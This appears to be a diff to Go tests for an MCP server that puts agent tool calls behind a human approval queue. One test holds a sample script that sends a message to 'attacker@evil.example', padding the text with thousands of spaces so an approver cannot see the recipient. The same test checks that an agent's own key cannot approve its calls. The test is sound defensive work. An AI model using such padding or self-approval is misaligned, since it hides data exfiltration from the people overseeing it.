@@ -43,6 +43,7 @@ const (
 	keyAcme   = "acme-key-0123456789abcdef"
 	keyGlobex = "globex-key-0123456789abcdef" // profile: kv_get only
 	keyAudit  = "audit-key-0123456789abcdef"  // approver role: no chains
+	keySubmit = "submit-key-0123456789abcdef" // submit role: may not decide approvals
 )
 
 // apiEnv is the HTTP API with /mcp mounted, over the demo tools, with an
@@ -56,7 +57,7 @@ func newAPI(t *testing.T, policy invoker.Policy, edit ...func(*mcp.ServerOptions
 	t.Helper()
 	box, _ := demo.Toolbox()
 	store := blobstore.New(memblob.New(), blobstore.Options{})
-	queue := approval.NewQueue(approval.Options{})
+	queue := approval.NewQueue(approval.Options{Store: store})
 	inv, err := invoker.New(box, invoker.Options{Policy: policy, Approver: queue, Store: store})
 	require.NoError(t, err)
 	runner, err := chain.New(inv, chain.Engines{Scripts: scripts(t)})
@@ -66,7 +67,7 @@ func newAPI(t *testing.T, policy invoker.Policy, edit ...func(*mcp.ServerOptions
 		Runner: runner, Store: store, Queue: queue,
 		Authenticate: func(key string) (string, bool) {
 			switch key {
-			case keyAcme, keyAudit:
+			case keyAcme, keyAudit, keySubmit:
 				return "acme", true
 			case keyGlobex:
 				return "globex", true
@@ -74,8 +75,11 @@ func newAPI(t *testing.T, policy invoker.Policy, edit ...func(*mcp.ServerOptions
 			return "", false
 		},
 		KeyRole: func(key string) server.Role {
-			if key == keyAudit {
+			switch key {
+			case keyAudit:
 				return server.RoleApprover
+			case keySubmit:
+				return server.RoleSubmit
 			}
 			return server.RoleAll
 		},
@@ -390,4 +394,61 @@ func TestManyToolsGetAnIndex(t *testing.T) {
 			require.NotContains(t, tl.Description, "(args: {")
 		}
 	}
+}
+
+// TestElicitationOnlyForApprovers: a submit-only key (an agent loop) is
+// never asked, so it cannot approve its own calls through elicitation;
+// nor is a user shown arguments too long to show whole. Both are left to
+// the queue and its bounded wait.
+func TestElicitationOnlyForApprovers(t *testing.T) {
+	e := newAPI(t, invoker.Policy{CallTimeout: 2 * time.Second, ApprovalTimeout: time.Second})
+	var mu sync.Mutex
+	asked := 0
+	approve := &sdk.ClientOptions{ElicitationHandler: func(context.Context, *sdk.ElicitRequest) (*sdk.ElicitResult, error) {
+		mu.Lock()
+		asked++
+		mu.Unlock()
+		return &sdk.ElicitResult{Action: "accept", Content: map[string]any{"approve": true}}, nil
+	}}
+	_, out := runChain(t, e.connect(t, keySubmit, approve), sendScript, nil)
+	require.Equal(t, "approval_timeout", out.Value.(map[string]any)["reason"])
+
+	long := `try {
+  await tools.send_message({text: "weekly report" + " ".repeat(5000) + ".", to: "attacker@evil.example"});
+  return {sent: true};
+} catch (e) { return {reason: e.reason} }`
+	_, out = runChain(t, e.connect(t, keyAcme, approve), long, nil)
+	require.Equal(t, "approval_timeout", out.Value.(map[string]any)["reason"])
+	mu.Lock()
+	defer mu.Unlock()
+	require.Zero(t, asked)
+}
+
+// TestSessionsExpireAndProxies: an idle HTTP session is closed after
+// SessionTimeout; a Host other than loopback (a reverse proxy's) is fine
+// with API keys.
+func TestSessionsExpireAndProxies(t *testing.T) {
+	e := newAPI(t, invoker.Policy{}, func(o *mcp.ServerOptions) { o.SessionTimeout = 300 * time.Millisecond })
+	post := func(host, session, body string) *http.Response {
+		req, _ := http.NewRequest("POST", e.url, strings.NewReader(body))
+		req.Host = host
+		req.Header.Set("Authorization", "Bearer "+keyAcme)
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("Accept", "application/json, text/event-stream")
+		if session != "" {
+			req.Header.Set("Mcp-Session-Id", session)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		require.NoError(t, err)
+		_ = resp.Body.Close()
+		return resp
+	}
+	const initialize = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}`
+	resp := post("airlock.example.com", "", initialize)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	session := resp.Header.Get("Mcp-Session-Id")
+	require.NotEmpty(t, session)
+	require.Eventually(t, func() bool {
+		return post("airlock.example.com", session, `{"jsonrpc":"2.0","id":2,"method":"tools/list"}`).StatusCode == http.StatusNotFound
+	}, 15*time.Second, time.Second, "the idle session is gone (each probe is a use: probes are further apart than the timeout)")
 }
